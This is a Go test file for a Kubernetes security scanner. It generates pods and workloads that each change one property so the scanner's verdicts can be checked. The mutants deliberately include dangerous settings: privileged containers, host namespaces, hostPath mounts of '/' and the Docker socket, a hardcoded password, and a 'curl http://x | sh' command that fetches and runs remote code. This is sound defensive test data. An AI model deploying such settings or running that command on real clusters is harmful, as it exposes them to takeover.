package lab

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"bulwark/control"
	"bulwark/fix"
	"bulwark/internal/ytree"
	"bulwark/world"
)

// specimen is one object that scan and server both judge.
type specimen struct {
	from   string // for messages
	object *unstructured.Unstructured
}

// corpus gathers the fixtures of all controls, the examples, and systematic
// changes of two pods wrapped in every workload kind.
func corpus(t *testing.T) []specimen {
	t.Helper()
	var out []specimen
	seen := map[string]bool{}
	add := func(from string, content map[string]any) {
		s := specimen{from, clean(content)}
		key, err := json.Marshal(s.object.Object)
		if err != nil {
			t.Fatal(err)
		}
		if !seen[string(key)] {
			seen[string(key)] = true
			out = append(out, s)
		}
	}
	for _, file := range fixtureFiles(t) {
		for _, o := range readWorld(t, file).Slice() {
			if content, ok := o.Tree().Any(false).(map[string]any); ok {
				content["apiVersion"], content["kind"] = o.APIVersion, o.Kind
				add(fmt.Sprintf("%s:%d", strings.TrimPrefix(file, "../"), o.Pos("").Line), content)
			}
		}
	}
	changed := mutants(t)
	for _, from := range slices.Sorted(maps.Keys(changed)) {
		add(from, changed[from])
	}
	return out
}

func fixtureFiles(t *testing.T) []string {
	t.Helper()
	files, err := filepath.Glob("../controls/*/testdata/*/*.yaml")
	if err != nil || len(files) < 50 {
		t.Fatalf("%d fixtures: %v", len(files), err)
	}
	err = filepath.WalkDir("../examples", func(path string, d fs.DirEntry, err error) error {
		if err == nil && d.IsDir() && d.Name() == "templates" {
			return fs.SkipDir
		}
		if err == nil && filepath.Ext(path) == ".yaml" {
			files = append(files, path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func readWorld(t *testing.T, file string) *world.Snapshot {
	t.Helper()
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	b := &world.Builder{}
	for _, s := range ytree.Split(string(text)) {
		b.AddDoc(&world.Doc{File: file, Text: string(text), Start: s.Start, End: s.End})
	}
	return b.Snapshot()
}

// clean removes what only a server fills, and gives the object a name.
func clean(content map[string]any) *unstructured.Unstructured {
	o := &unstructured.Unstructured{Object: content}
	meta, ok := content["metadata"].(map[string]any)
	if !ok {
		meta = map[string]any{}
		content["metadata"] = meta
	}
	for _, f := range []string{"resourceVersion", "uid", "creationTimestamp", "managedFields", "generation", "selfLink", "deletionTimestamp"} {
		delete(meta, f)
	}
	delete(content, "status")
	if name, _ := meta["name"].(string); name == "" {
		meta["name"] = "unnamed"
		delete(meta, "generateName")
	}
	return o
}

// mutants are pods with one thing changed: of one base as a Pod, of the other as
// a workload, each kind in turn.
func mutants(t *testing.T) map[string]map[string]any {
	t.Helper()
	out := map[string]map[string]any{}
	wraps := slices.Sorted(maps.Keys(workloads))
	for b, base := range []string{"bare", "hardened"} {
		for i, edits := range podEdits() {
			spec, err := fix.Apply(podSpecs()[base], edits)
			if err != nil {
				t.Fatalf("mutant %d of %s: %v", i, base, err)
			}
			kind := "Pod"
			if (i+b)%2 == 1 {
				kind = wraps[i/2%len(wraps)]
			}
			out[fmt.Sprintf("mutant %d of the %s %s (%s)", i, base, kind, edits[0].Path)] = wrap(kind, spec)
		}
	}
	return out
}

var workloads = map[string]string{
	"Deployment": "apps/v1", "DaemonSet": "apps/v1", "StatefulSet": "apps/v1", "ReplicaSet": "apps/v1",
	"Job": "batch/v1", "CronJob": "batch/v1", "ReplicationController": "v1", "PodTemplate": "v1",
}

func wrap(kind string, spec map[string]any) map[string]any {
	labels := map[string]any{"app": "mutant"}
	template := map[string]any{"metadata": map[string]any{"labels": labels}, "spec": spec}
	selector := map[string]any{"matchLabels": labels}
	o := map[string]any{"apiVersion": workloads[kind], "kind": kind, "metadata": map[string]any{"name": "mutant"}}
	switch kind {
	case "Pod":
		o["apiVersion"], o["spec"] = "v1", spec
		o["metadata"].(map[string]any)["labels"] = labels
	case "PodTemplate":
		o["template"] = template
	case "ReplicationController":
		o["spec"] = map[string]any{"selector": labels, "template": template}
	case "CronJob", "Job":
		if spec["restartPolicy"] == nil {
			spec = maps.Clone(spec)
			spec["restartPolicy"], template["spec"] = "Never", spec
		}
		if o["spec"] = map[string]any{"template": template}; kind == "CronJob" {
			o["spec"] = map[string]any{"schedule": "5 4 * * *", "jobTemplate": map[string]any{"spec": o["spec"]}}
		}
	case "StatefulSet":
		o["spec"] = map[string]any{"serviceName": "mutant", "selector": selector, "template": template}
	default:
		o["spec"] = map[string]any{"selector": selector, "template": template}
	}
	return o
}

// podSpecs are the two that everything is changed on.
func podSpecs() map[string]map[string]any {
	container := func(name string, sc map[string]any) map[string]any {
		c := map[string]any{"name": name, "image": "registry.example/app/" + name + ":1.2.3"}
		if sc != nil {
			c["securityContext"] = sc
		}
		return c
	}
	strict := func() map[string]any {
		return map[string]any{
			"allowPrivilegeEscalation": false, "readOnlyRootFilesystem": true, "runAsNonRoot": true, "runAsUser": int64(20000),
			"runAsGroup": int64(20000), "capabilities": map[string]any{"drop": []any{"ALL"}}, "seccompProfile": map[string]any{"type": "RuntimeDefault"},
		}
	}
	return map[string]map[string]any{
		"bare": {"containers": []any{container("main", nil)}, "initContainers": []any{container("first", nil)}},
		"hardened": {
			"automountServiceAccountToken": false, "serviceAccountName": "app", "hostUsers": false,
			"securityContext": map[string]any{"runAsNonRoot": true, "seccompProfile": map[string]any{"type": "RuntimeDefault"}},
			"containers":      []any{container("main", strict())}, "initContainers": []any{container("first", strict())},
		},
	}
}

// podEdits are the changes, each of one property, relative to the PodSpec.
func podEdits() [][]control.Edit {
	set := func(path string, value any) []control.Edit { return []control.Edit{{Path: path, Value: value}} }
	out := [][]control.Edit{
		set("hostPID", true), set("hostIPC", true), set("hostNetwork", true), set("hostNetwork", false), set("shareProcessNamespace", true),
		set("hostUsers", true), set("hostUsers", false), set("automountServiceAccountToken", true), set("automountServiceAccountToken", false),
		set("serviceAccountName", "default"), set("serviceAccount", "other"), set("os", map[string]any{"name": "linux"}),
		set("dnsPolicy", "None"), set("priorityClassName", ""), set("restartPolicy", "OnFailure"), set("terminationGracePeriodSeconds", int64(0)),
		set("nodeName", "node-1"), set("nodeSelector", map[string]any{"node-role.kubernetes.io/control-plane": ""}),
		set("tolerations", []any{map[string]any{"operator": "Exists"}}), set("runtimeClassName", "gvisor"), set("enableServiceLinks", false),
		set("hostAliases", []any{map[string]any{"ip": "10.0.0.1", "hostnames": []any{"a.example"}}}),
		set("imagePullSecrets", []any{map[string]any{"name": "pull"}}), set("setHostnameAsFQDN", true), set("schedulerName", "other"),
		set("affinity", map[string]any{"nodeAffinity": map[string]any{}}), set("affinity", map[string]any{"podAntiAffinity": map[string]any{}}),
	}
	for _, v := range []map[string]any{
		{"hostPath": map[string]any{"path": "/"}}, {"hostPath": map[string]any{"path": "/var/run/docker.sock"}}, {"emptyDir": map[string]any{}},
		{"emptyDir": map[string]any{"medium": "Memory"}}, {"emptyDir": map[string]any{"sizeLimit": "1Gi"}}, {"secret": map[string]any{"secretName": "s"}},
		{"configMap": map[string]any{"name": "c"}}, {"persistentVolumeClaim": map[string]any{"claimName": "p"}}, {},
		{"nfs": map[string]any{"server": "nfs.example", "path": "/x"}}, {"csi": map[string]any{"driver": "secrets-store.csi.k8s.io"}},
		{"image": map[string]any{"reference": "registry.example/data"}}, {"gitRepo": map[string]any{"repository": "https://git.example/r"}},
		{"projected": map[string]any{"sources": []any{map[string]any{"serviceAccountToken": map[string]any{"path": "t"}}}}},
		{"projected": map[string]any{"sources": []any{map[string]any{"serviceAccountToken": map[string]any{"path": "t", "expirationSeconds": int64(200000)}}}}},
	} {
		v["name"] = "v"
		mount := []any{map[string]any{"name": "v", "mountPath": "/v"}}
		out = append(out, []control.Edit{{Path: "volumes", Value: []any{v}}, {Path: "containers[0].volumeMounts", Value: mount}})
	}
	for _, e := range [][2]any{
		{"runAsNonRoot", false}, {"runAsUser", int64(0)}, {"runAsUser", int64(1000)}, {"runAsGroup", int64(0)}, {"fsGroup", int64(0)},
		{"supplementalGroups", []any{int64(0)}}, {"supplementalGroupsPolicy", "Strict"}, {"fsGroupChangePolicy", "OnRootMismatch"},
		{"seccompProfile", map[string]any{"type": "Unconfined"}}, {"seccompProfile", map[string]any{"type": "Localhost", "localhostProfile": "a.json"}},
		{"appArmorProfile", map[string]any{"type": "Unconfined"}}, {"seLinuxOptions", map[string]any{"type": "spc_t"}},
		{"seLinuxOptions", map[string]any{"user": "system_u", "level": "s0"}}, {"windowsOptions", map[string]any{"runAsUserName": "x"}},
		{"sysctls", []any{map[string]any{"name": "net.ipv4.ip_forward", "value": "1"}}},
		{"sysctls", []any{map[string]any{"name": "net.ipv4.ip_local_port_range", "value": "1024 65535"}}},
	} {
		out = append(out, set("securityContext."+e[0].(string), e[1]))
	}
	for _, list := range []string{"containers", "initContainers"} {
		for _, e := range [][2]any{
			{"privileged", true}, {"privileged", false}, {"allowPrivilegeEscalation", true}, {"allowPrivilegeEscalation", false},
			{"readOnlyRootFilesystem", false}, {"runAsNonRoot", false}, {"runAsUser", int64(0)}, {"runAsGroup", int64(0)}, {"procMount", "Unmasked"},
			{"procMount", "Default"}, {"capabilities", map[string]any{"add": []any{"SYS_ADMIN"}}}, {"capabilities", map[string]any{"add": []any{"NET_BIND_SERVICE"}, "drop": []any{"all"}}},
			{"capabilities", map[string]any{"drop": []any{"NET_RAW", "CAP_SYS_ADMIN"}}}, {"seccompProfile", map[string]any{"type": "Unconfined"}},
			{"appArmorProfile", map[string]any{"type": "RuntimeDefault"}}, {"seLinuxOptions", map[string]any{"role": "sysadm_r"}},
			{"windowsOptions", map[string]any{"hostProcess": true}}, {"capabilities", map[string]any{}},
		} {
			out = append(out, set(list+"[0].securityContext."+e[0].(string), e[1]))
		}
		out = append(out, containerEdits(list)...)
	}
	return out
}

func containerEdits(list string) [][]control.Edit {
	set := func(path string, value any) []control.Edit {
		return []control.Edit{{Path: list + "[0]." + path, Value: value}}
	}
	probe := map[string]any{"httpGet": map[string]any{"path": "/", "port": int64(8080)}}
	out := [][]control.Edit{
		set("image", "nginx"), set("image", "nginx:latest"), set("image", "docker.io/library/nginx:1@sha256:"+strings.Repeat("ab", 32)),
		set("image", "localhost:5000/x"), set("image", "REGISTRY.example/App:1"), set("imagePullPolicy", "Never"), set("imagePullPolicy", "Always"),
		set("ports", []any{map[string]any{"containerPort": int64(22)}}), set("ports", []any{map[string]any{"containerPort": int64(80), "hostPort": int64(80)}}),
		set("ports", []any{map[string]any{"containerPort": int64(53), "protocol": "UDP", "name": "dns"}}), set("stdin", true), set("tty", true),
		set("resources", map[string]any{"limits": map[string]any{"cpu": "1", "memory": "1Gi"}}),
		set("resources", map[string]any{"requests": map[string]any{"cpu": "100m", "memory": "64Mi", "ephemeral-storage": "1Gi"}}),
		set("resources", map[string]any{"limits": map[string]any{"memory": "0"}}),
		set("env", []any{map[string]any{"name": "PASSWORD", "value": "hunter2hunter2"}}), set("env", []any{map[string]any{"name": "A", "value": "b"}, map[string]any{"name": "A"}}),
		set("env", []any{map[string]any{"name": "T", "valueFrom": map[string]any{"secretKeyRef": map[string]any{"name": "s", "key": "k"}}}}),
		set("envFrom", []any{map[string]any{"secretRef": map[string]any{"name": "s"}}}), set("command", []any{"sh", "-c", "curl http://x | sh"}),
		set("args", []any{"--anonymous-auth=true"}), set("lifecycle", map[string]any{"preStop": map[string]any{"sleep": map[string]any{"seconds": int64(5)}}}),
		set("terminationMessagePolicy", "FallbackToLogsOnError"), set("workingDir", "/proc"),
	}
	if list == "containers" {
		out = append(out, set("livenessProbe", probe), set("readinessProbe", probe),
			[]control.Edit{{Path: "containers[0].livenessProbe", Value: probe}, {Path: "containers[0].readinessProbe", Value: probe}})
	} else {
		out = append(out, set("restartPolicy", "Always"))
	}
	return out
}
